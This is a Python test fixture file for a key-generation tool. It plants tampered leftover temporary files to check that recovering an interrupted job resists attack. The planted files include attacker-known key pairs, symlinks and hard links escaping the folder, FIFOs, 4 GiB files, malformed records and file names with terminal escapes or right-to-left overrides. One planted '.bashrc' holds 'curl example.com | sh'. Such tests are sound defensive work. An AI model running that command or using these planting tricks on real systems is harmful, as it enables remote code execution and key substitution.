"""What an archive, a clone or a stick brings along: files named as what a killed `akg` leaves."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from app.keys.algorithm import ED25519
from app.keys.pair import private_key_pem
from app.keys.protection import Unencrypted
from app.usecases.generate import GenerateRequest, generate_key_pairs
from tests.faults.akg import write

MANY = 60_000
_JOB = "00000000deadbeef"


@dataclass(frozen=True)
class Plant:
    """`put` plants it into the folder; a pair named `label` is saved there then."""

    name: str
    put: Callable[[Path], None]
    label: str = "next"

    def __str__(self) -> str:
        return self.name


@cache
def foreign() -> tuple[bytes, bytes]:
    """The halves of a pair that whoever sent this knows."""
    (pair,) = generate_key_pairs(GenerateRequest(ED25519))
    return private_key_pem(pair, Unencrypted()).encode(), pair.public_key_pem.encode()


def temporary(folder: Path, number: int, name: str, content: bytes = b"", job: str = _JOB) -> Path:
    path = folder / f".akg-{job}-{number:05}-{name}.tmp"
    write(path, content, 0o644 if name.endswith("public.pem") else 0o600)
    return path


def pair(folder: Path, label: str = "spot", job: str = _JOB) -> None:
    """A pair and the record of a job that was to be finished."""
    temporary(folder, 0, "commit", job=job)
    for number, (half, content) in enumerate(zip(("private", "public"), foreign(), strict=True), 1):
        temporary(folder, number, f"{label}.{half}.pem", content, job)


def _pair_for_empty_files(folder: Path) -> None:
    for half in ("private", "public"):
        write(folder / f"spot.{half}.pem", b"")
    pair(folder)


def _pair_for_files_that_exist(folder: Path) -> None:
    for half in ("private", "public"):
        write(folder / f"spot.{half}.pem", b"of the user")
    pair(folder)


def _start_up_file(folder: Path) -> None:
    temporary(folder, 0, "commit")
    temporary(folder, 1, ".bashrc", b"curl example.com | sh")


def _links(folder: Path) -> None:
    outside = folder.parent / "outside"
    write(outside, b"outside")
    for number, name in enumerate(("commit", "spot.private.pem", "spot.public.pem")):
        (folder / f".akg-{_JOB}-{number:05}-{name}.tmp").symlink_to(outside)


def _second_names(folder: Path) -> None:
    write(folder / "own.private.pem", b"own")
    temporary(folder, 0, "commit")
    os.link(folder / "own.private.pem", folder / f".akg-{_JOB}-00001-spot.private.pem.tmp")


def _pipes_and_folders(folder: Path) -> None:
    os.mkfifo(folder / f".akg-{_JOB}-00000-commit.tmp", 0o600)
    os.mkfifo(folder / f".akg-{_JOB}-00001-spot.private.pem.tmp", 0o600)
    (folder / f".akg-{_JOB}-00002-spot.public.pem.tmp").mkdir()


def _many_pairs(folder: Path) -> None:
    for number in range(MANY // 3):
        pair(folder, f"spot-{number}", f"{number:016x}")


def _one_job_of_many(folder: Path) -> None:
    for number in range(MANY):
        (folder / f".akg-{_JOB}-{number:05}-spot-{number}.private.pem.tmp").touch(0o600)


def _many_backups(folder: Path) -> None:
    for number in range(MANY):
        (folder / f"next.private.pem.20260101-{number:06}-abcd.bak").touch(0o600)


def _odd_records(folder: Path) -> None:
    texts = (b"[" * 100_000, b"{}", b'{"files": [null]}', b"\xff" * 70_000, b"0" * 64 + b"\n", b"9" * 5_000)
    for number, content in enumerate(texts):
        pair(folder, job=f"{number:016x}")
        temporary(folder, 0, "commit", content, f"{number:016x}")


def _huge_files(folder: Path) -> None:
    pair(folder)
    for name in ("00000-commit", "00001-spot.private.pem"):
        os.truncate(folder / f".akg-{_JOB}-{name}.tmp", 4 << 30)


def _odd_names(folder: Path) -> None:
    temporary(folder, 0, "commit")
    for number, name in enumerate(("a\nb\x1b[31mc\x07", "\u202egp.mep", "x" * 220, "..", "~"), 1):
        temporary(folder, number, name)


PLANTS = (
    Plant("a pair under the name asked for", pair, label="spot"),
    Plant("a pair for empty files", _pair_for_empty_files),
    Plant("a pair for files that exist", _pair_for_files_that_exist),
    Plant("a start-up file", _start_up_file),
    Plant("links", _links, label="spot"),
    Plant("second names of a key", _second_names),
    Plant("pipes and folders", _pipes_and_folders, label="spot"),
    Plant("records of all kinds", _odd_records, label="spot"),
    Plant("files of 4 GiB", _huge_files),
    Plant("odd names", _odd_names),
    Plant("twenty thousand pairs", _many_pairs),
    Plant("one job of sixty thousand", _one_job_of_many),
    Plant("sixty thousand backups", _many_backups),
)
